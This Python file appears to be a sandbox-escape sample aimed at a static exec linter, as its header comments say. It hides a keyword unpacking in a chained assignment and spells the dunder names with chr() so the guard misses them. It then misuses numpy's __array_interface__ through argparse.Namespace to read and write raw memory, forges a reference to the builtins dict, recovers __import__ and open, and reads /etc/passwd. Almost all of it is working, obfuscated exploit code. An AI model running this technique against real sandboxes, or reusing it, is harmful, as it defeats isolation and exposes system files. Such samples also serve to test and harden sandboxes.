# source: https://github.com/unslothai/unsloth/pull/9777 (chained-assignment targets missed by a static exec linter); numpy array interface protocol, https://numpy.org/doc/stable/reference/arrays.interface.html; "Escape via __globals__ ... computed attribute names bypass static guards", https://smarttldr.pages.dev/en/topic/python-sandbox-escape-prevention/deep-dive (memory/object-model escapes), here as addrof/fakeobj through a __slots__ cell
# family: hidden **kw (chained unpacking target) -> argparse.Namespace setattr of __array_interface__ -> raw memory read/write -> fake object (builtins dict) via a __slots__ cell
# goal: import the module `this` and open /etc/passwd with the builtins __import__ and open, reached through memory
import numpy as np
import argparse

u2 = chr(95) * 2
KEY = u2 + "array" + chr(95) + "interface" + u2


def words(addr, n):
    kw = {"window": 20}
    x = [kw] = [{KEY: {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3}}]
    return np.asarray(argparse.Namespace(**kw))


class Cell:
    __slots__ = ("v",)


def where(obj):
    return int(repr(obj).split(" at ")[1].rstrip(">"), 16)


c = Cell()
c.v = print
cw = words(where(c), 3)
pf = int(cw[2])                      # address of the builtin function print
bmod = int(words(pf, 4)[3])          # its m_self: the builtins module
bdict = int(words(bmod, 3)[2])       # the module's md_dict
words(bdict, 1)[0] += 100            # keep it alive for the extra reference
cw[2] = bdict
table = c.v                          # the builtins dict, as an object
imp = table[u2 + "im" + "port" + u2]
imp("this")
op = table["op" + "en"]
print(op(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
